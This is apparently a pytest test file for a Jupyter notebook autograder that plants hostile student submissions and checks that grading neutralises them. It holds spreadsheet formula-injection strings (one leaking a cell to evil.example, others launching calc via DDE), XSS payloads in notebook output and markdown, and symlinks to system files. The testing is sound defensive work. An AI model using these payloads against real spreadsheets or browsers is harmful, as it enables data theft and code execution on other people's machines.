"""Intake and the outputs against a hostile class, through the grading command.

Students control their notebooks' bytes and their folders' names. One grading run (module
fixture) holds honest students beside attackers: links anywhere in SUBMISSIONS (to another
student's work, to the course's source/), a student folder named like another student's
archive, exception messages that a spreadsheet would run as formulas, scripts in what a
notebook displays and in its markdown, nbgrader's hidden-test markers quoted in a markdown
cell, a graded cell pasted twice, and a notebook whose feedback page cannot be made; and
what a second set of attacks found: notebook bytes that nbformat tolerates and templates
render raw (a cell type of the future, a picture's size that is an attribute), lone
surrogates, folders nested a thousand deep, hard links, a timestamp that is no time,
markdown that is slow to render, a `;` in a folder name, IPython syntax slow to read, a
and a copy whose grade ids were renamed.
"""

import copy
import csv
import html
import json
import os
import re
import subprocess
import zipfile
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert import HTMLExporter
from traitlets.config.loader import PyFileConfigLoader

from autograder.course import REPO, notebook_name
from autograder.grade import grade
from autograder.notebooks import nbgrader_meta
from autograder.outputs import csvfile
from autograder.outputs.csvfile import FORMULA_START, NUMBER
from autograder.record.preprocessors import ShowOnlyDiagnoses
from tests.test_grading import LESSON, LIMITS, solved, student_version, tree_digest

NOTEBOOK = notebook_name(LESSON)
ESCAPE = "\x1b[2J"  # a terminal's "clear the screen", in a folder name
HONEST = ["ada", "bea", "ada.zip", "1+1", "2Jeve", "shows_html", "quotes_markers", "pastes_twice"]
# correct work in a notebook with something odd about it, which costs nothing
ODD = {
    "odd_timestamp": "a timestamp.txt that is no time (2.4 MB of it)",
    "integer_grade_id": "a cell of its own with nbgrader metadata of the wrong types",
    "surrogate_comment": "a lone surrogate in a comment",
    "renames_grade_ids": "a copy of bea's, its solution cells' grade ids renamed",
    "ren": "a folder whose name is not UTF-8",
    "mal_2+3": "a folder named `mal;=2+3;`",
    "deep_tree": "1,100 folders nested in its lesson folder",
    "hard_link": "its notebook another name of bea's file",
}
UNREADABLE = ["float_minor"]
# each link, and the student whose submission it is
LINKS = {
    "links_lesson/01_softmax": "links_lesson",
    "links_folder": "links_folder",
    f"links_notebook/01_softmax/{NOTEBOOK}": "links_notebook",
    "links_timestamp/01_softmax/timestamp.txt": "links_timestamp",
    "links_source/01_softmax": "links_source",
}
FORMULAS = {
    "softmax": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "softmax_jacobian": "+cmd|' /C calc'!A0",
    "softmax_cross_entropy": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# what a student's notebook shows that would run in the instructor's browser
SHOWS = (
    "from IPython.display import HTML, Javascript, display\n"
    "display(HTML('<script>window.PWNED = 1</script>"
    '<img src=x onerror="window.PWNED = 2"><a href="javascript:window.PWNED = 3">x</a>\'))\n'
    "display(Javascript('window.PWNED = 4'))"
)
MARKDOWN = (
    '<img src=x onerror="window.PWNED = 5"> [a link](javascript:window.PWNED=6) '
    '<img src="https://evil.example/pixel.png">\n\n'
    # maths, typeset into the page (autograder.outputs.mathml): links, HTML in \text, styles
    r"$\href{javascript:window.PWNED=7}{x}$ and "
    r'$$\text{<img src=x onerror="window.PWNED=8">} \color{red}{y} \style{color:red}{z}$$'
)
MARKERS = "Copied from the course: `### BEGIN HIDDEN TESTS`, but no end marker"
BREAKS = "# this notebook's feedback page cannot be made (fault injected by the test)"


def formulas(lesson):
    """Answers that raise exceptions whose messages are formulas."""
    nb = student_version(lesson)
    answers = {}
    for cell in nb.cells:
        grade_id = nbgrader_meta(cell).get("grade_id")
        if grade_id in FORMULAS:
            name, arguments = re.search(r"def (\w+)\((.*?)\):", cell.source).groups()
            raised = f"raise ValueError({FORMULAS[grade_id]!r})"
            answers[grade_id] = f"def {name}({arguments}):\n    {raised}"
    return student_version(lesson, answers)


def with_markdown(nb, *texts):
    nb.cells[1:1] = [nbformat.v4.new_markdown_cell(text) for text in texts]
    return nb


def pasted_twice(nb):
    """The test cell of softmax, and the solution cell of softmax_jacobian, pasted below."""
    for grade_id in ("softmax_test", "softmax_jacobian"):
        i = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == grade_id)
        pasted = copy.deepcopy(nb.cells[i])
        pasted.id = f"{pasted.id}-pasted"  # the copy JupyterLab pastes has an id of its own
        nb.cells.insert(i + 1, pasted)


def put(root, folder, nb):
    path = root / folder / LESSON / NOTEBOOK
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def raw(nb, **changes):
    """The JSON of nb with changes made to it, as a student's file could hold it."""
    data = json.loads(nbformat.writes(nb))
    for change in changes.values():
        change(data)
    return json.dumps(data)


def put_raw(root, folder, text):
    path = root / folder / LESSON / NOTEBOOK
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def future_cell(data):
    data["nbformat_minor"] = 99
    data["cells"].insert(1, {"cell_type": "x-note", "id": "x", "metadata": {}, "source": ""})
    data["cells"][1]["type"] = '<img src=x onerror="window.PWNED=9"><script>window.PWNED=10'


PICTURE = (
    "from IPython.display import Image, display\n"
    "import base64\n"
    "png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4'\n"
    "                        'DwABBAEAwS2OUAAAAABJRU5ErkJggg==')\n"
    "display(Image(png, width='1 onerror=window.PWNED=11'))"
)
SLOW_MARKDOWN = "\\(" * 100_000  # slow to render: cut to the grader's bound
SHELL_LINES = "!true\n" * 600  # IPython gives up reading it after 500 of them


def renamed_grade_ids(nb):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("solution"):
            cell.metadata.nbgrader["grade_id"] += "_mine"


def write_class(root):
    for student in ("ada", "bea", "ada.zip", "=1+1", f"{ESCAPE}eve"):
        put(root, student, solved(LESSON))
    put(root, "formulas", formulas(LESSON))
    put(root, "shows_html", with_markdown(solved(LESSON, extra_cells=[SHOWS]), MARKDOWN))
    put(root, "quotes_markers", with_markdown(solved(LESSON), MARKERS, "### END SOLUTION"))
    put(root, "pastes_twice", solved(LESSON, edit=pasted_twice))
    put(root, "breaks_feedback", solved(LESSON, extra_cells=[BREAKS]))
    (root / "links_lesson").mkdir()
    (root / "links_lesson" / LESSON).symlink_to(root / "bea" / LESSON)
    (root / "links_folder").symlink_to(root / "bea")
    (root / "links_notebook" / LESSON).mkdir(parents=True)
    (root / "links_notebook" / LESSON / NOTEBOOK).symlink_to(root / "bea" / LESSON / NOTEBOOK)
    put(root, "links_timestamp", solved(LESSON))
    (root / "links_timestamp" / LESSON / "timestamp.txt").symlink_to("/etc/hostname")
    (root / "links_source").mkdir()
    (root / "links_source" / LESSON).symlink_to(REPO / "source" / LESSON)
    # the second set
    put(root, "odd_timestamp", solved(LESSON))
    (root / "odd_timestamp" / LESSON / "timestamp.txt").write_text("1." * 1_200_000)
    extra = nbformat.v4.new_code_cell("def helper(z):\n    return z")
    extra.metadata.nbgrader = {"solution": True, "grade_id": 5, "points": "many"}
    put(root, "integer_grade_id", solved(LESSON, edit=lambda nb: nb.cells.append(extra)))
    comment = solved(LESSON, edit=lambda nb: nb.cells.append(nbformat.v4.new_code_cell("# \udce9")))
    put_raw(root, "surrogate_comment", raw(comment))  # as a JSON escape: \\udce9
    put(root, "renames_grade_ids", solved(LESSON, edit=renamed_grade_ids))
    put(root, os.fsdecode(b"ren\xe9"), solved(LESSON))
    put(root, "mal;=2+3;", solved(LESSON))
    folder = os.open(put_raw(root, "deep_tree", nbformat.writes(solved(LESSON))).parent, 0)
    for _ in range(1100):  # one by one: os.makedirs is recursive
        os.mkdir("a", dir_fd=folder)
        inner = os.open("a", os.O_DIRECTORY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(folder)
    (root / "hard_link" / LESSON).mkdir(parents=True)
    os.link(root / "bea" / LESSON / NOTEBOOK, root / "hard_link" / LESSON / NOTEBOOK)
    put_raw(root, "float_minor", raw(solved(LESSON), minor=lambda d: d.update(nbformat_minor=4.5)))
    put_raw(root, "future_cell", raw(solved(LESSON), cell=future_cell))
    put(root, "picture_size", solved(LESSON, extra_cells=[PICTURE]))
    put(root, "slow_markdown", with_markdown(solved(LESSON), SLOW_MARKDOWN))
    put(root, "shell_lines", student_version(LESSON, {"softmax": SHELL_LINES}))


def _breaks(original):
    def preprocess_cell(self, cell, resources, index):
        if BREAKS in cell.source:
            raise RuntimeError("injected fault")
        return original(self, cell, resources, index)

    return preprocess_cell


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    submissions, out = root / "submitted", root / "out"
    write_class(submissions)
    before = tree_digest(submissions)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(
            ShowOnlyDiagnoses, "preprocess_cell", _breaks(ShowOnlyDiagnoses.preprocess_cell)
        )
        run = grade(submissions, out, jobs=2, limits=LIMITS, lessons=[LESSON], written=False)
    graded = {
        "results": {r.student: r for r in run.results},
        "notes": dict(run.notes),
        "out": out,
        "unchanged": before == tree_digest(submissions),
    }
    # pytest removes old temporary folders with shutil.rmtree, which recurses
    subprocess.run(["rm", "-rf", str(submissions / "deep_tree")], check=True)
    return graded


def page(graded, student):
    return (graded["out"] / "feedback" / student / LESSON / NOTEBOOK).with_suffix(".html")


def test_honest_students_keep_full_marks(graded):
    for student in HONEST:
        result = graded["results"][student]
        assert result.score == result.max_score > 0, (student, result.problem)


def test_a_link_anywhere_is_refused_and_named_never_followed(graded):
    for link, student in LINKS.items():
        result = graded["results"][student]
        assert result.score == 0, student
        assert result.problem == f"refused: {link} is a symbolic link (links are never followed)"
        assert graded["notes"][link].startswith("refused: a symbolic link"), link
        assert "refused" in page(graded, student).read_text()


def test_intake_notes_print_no_control_character(graded):
    assert "graded as '2Jeve'" in graded["notes"]["\\x1b[2Jeve"]
    assert not [where for where in graded["notes"] if not where.isprintable()]


def test_submissions_are_only_read(graded):
    assert graded["unchanged"], "SUBMISSIONS was modified"


def test_the_run_grades_everyone(graded):
    with open(graded["out"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    everyone = {*HONEST, *LINKS.values(), "formulas", "breaks_feedback", *ODD}
    everyone |= {*UNREADABLE, "future_cell", "picture_size", "slow_markdown", "shell_lines"}
    assert set(rows) == everyone == set(graded["results"])
    for student, row in rows.items():
        assert float(row["score"]) == graded["results"][student].score


def test_a_student_named_like_an_archive_takes_nobody_s_archive(graded):
    out = graded["out"]
    assert (out / "feedback" / "ada.zip").is_dir()
    for student in ("ada", "ada.zip"):
        with zipfile.ZipFile(out / "feedback-archives" / f"{student}.zip") as z:
            assert z.namelist() == [f"{student}/{LESSON}/{page(graded, student).name}"]


def test_no_csv_cell_is_a_formula(graded):
    for path in graded["out"].glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    formula = cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
                    assert not formula, (path.name, cell)
    with open(graded["out"] / "exercises.csv", newline="", encoding="utf-8") as f:
        messages = {
            row["grade_id"]: row["message"]
            for row in csv.DictReader(f)
            if row["student"] == "formulas"
        }
    for grade_id, formula in FORMULAS.items():
        assert formula in messages[f"{grade_id}_test"], "the student's words, never a formula"
    assert graded["results"]["formulas"].score == 0
    with open(graded["out"] / "students.csv", newline="", encoding="utf-8") as f:
        assert {"folder": "'=1+1", "student": "1+1"} in list(csv.DictReader(f))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((formula, "'" + formula) for formula in FORMULAS.values()),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("1e-05", "1e-05"),
        ("ada", "ada"),
    ],
)
def test_a_csv_cell_that_starts_like_a_formula_is_text_and_a_number_a_number(
    tmp_path, value, written
):
    csvfile.write(tmp_path / "t.csv", [["message"], [value]])
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
        assert list(csv.reader(f))[1] == [written]


class Elements(HTMLParser):
    """The elements of a page, with their attributes, and the text of its scripts."""

    def __init__(self, html):
        super().__init__()
        self.attributes, self.scripts, self.tag = [], [], None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tag = tag
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        if self.tag == "script":
            self.scripts.append(data)


def assert_inert(html):
    """Nothing the student wrote runs or fetches: no script of theirs, no event handler or
    URL of theirs, no javascript: URL, no picture from outside the page."""
    elements = Elements(html)
    assert not [s for s in elements.scripts if "PWNED" in s]
    for tag, name, value in elements.attributes:
        url = re.sub(r"[\x00-\x20]", "", value).lower()
        assert "PWNED" not in value and not url.startswith("javascript:"), (tag, name, value)
        if (tag, name) == ("img", "src"):
            assert url.startswith("data:"), value
    return elements


def test_feedback_pages_show_what_students_wrote_inert(graded):
    for student in graded["results"]:
        elements = assert_inert(page(graded, student).read_text())
        assert not [a for a in elements.attributes if a[1].startswith("on")], "no handler at all"
    shown = page(graded, "shows_html").read_text()
    assert "&lt;script&gt;window.PWNED = 1&lt;/script&gt;" in shown, "shown as text"
    assert "a link" in shown


def test_formgrader_shows_what_students_wrote_inert(graded):
    """Formgrader renders the autograded notebooks with an HTMLExporter made from the
    course's nbgrader_config.py and its formgrade template."""
    course = graded["out"] / "course"
    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    resources = {"base_url": "", "index": 0, "total": 1, "notebook_path": "", "student": "x"}
    autograded = course / "autograded" / "shows_html" / LESSON / NOTEBOOK
    html, _ = HTMLExporter(config=config).from_filename(str(autograded), resources=resources)
    assert 'class="score tabbable"' in html, "formgrader's own form is kept"
    assert "&lt;script&gt;window.PWNED = 1&lt;/script&gt;" in html
    assert_inert(html)


def test_quoted_markers_cost_nothing_and_stay_visible(graded):
    shown = html.unescape(page(graded, "quotes_markers").read_text())
    assert "B\u200bEGIN HIDDEN TESTS" in shown and "BEGIN HIDDEN TESTS" not in shown
    assert "E\u200bND SOLUTION" in shown


def test_a_graded_cell_pasted_twice_is_graded_once(graded):
    result = graded["results"]["pastes_twice"]
    assert [c.grade_id for c in result.cells] == [
        c.grade_id for c in graded["results"]["ada"].cells
    ]


def test_a_page_that_cannot_be_made_costs_only_itself(graded):
    result = graded["results"]["breaks_feedback"]
    assert result.score == result.max_score
    shown = page(graded, "breaks_feedback").read_text()
    assert "its feedback page could not be made: RuntimeError: injected fault" in shown
    assert "Grade cell" in page(graded, "ada").read_text(), "the others' pages are nbgrader's"


def test_odd_notebooks_and_folders_cost_correct_work_nothing(graded):
    for student, odd in ODD.items():
        result = graded["results"][student]
        assert result.score == result.max_score > 0, (odd, result.problem)
    for student in ("future_cell", "picture_size", "slow_markdown"):
        result = graded["results"][student]
        assert result.score == result.max_score > 0, (student, result.problem)


def test_what_intake_cannot_take_costs_only_its_student(graded):
    for student in UNREADABLE:
        assert graded["results"][student].problem.startswith("unreadable: not a valid notebook")


def test_one_file_under_two_students_names_is_noted_for_both(graded):
    for student, other in (("bea", "hard_link"), ("hard_link", "bea")):
        note = graded["notes"][f"{student}/{LESSON}"]
        assert note.startswith(f"the same file as {other}'s (a hard link)"), note


def test_ipython_syntax_too_slow_to_read_costs_the_exercise_never_a_grader_failure(graded):
    result = graded["results"]["shell_lines"]
    cells = {c.grade_id: c for c in result.cells}
    assert cells["softmax_test"].score == 0 and not result.pending
    assert "grader" not in {c.kind for c in result.cells}


def test_markdown_too_long_to_render_is_cut_visibly(graded):
    assert "characters cut: the grader keeps" in page(graded, "slow_markdown").read_text()


def test_a_copy_whose_grade_ids_were_renamed_is_still_compared(graded):
    with open(graded["out"] / "similarity.csv", newline="", encoding="utf-8") as f:
        pairs = {frozenset((row["student_a"], row["student_b"])): row for row in csv.DictReader(f)}
    assert any(
        "renames_grade_ids" in pair and float(row["similarity"]) > 0.9 and row["flagged"] == "yes"
        for pair, row in pairs.items()
    ), pairs


def test_no_cell_is_a_formula_where_a_spreadsheet_splits_on_semicolons(graded):
    for path in graded["out"].glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f, delimiter=";"):
                for cell in row:
                    assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), cell
    students = (graded["out"] / "students.csv").read_text(encoding="utf-8")
    assert '"mal;\'=2+3;"' in students and '"ren?"' in students
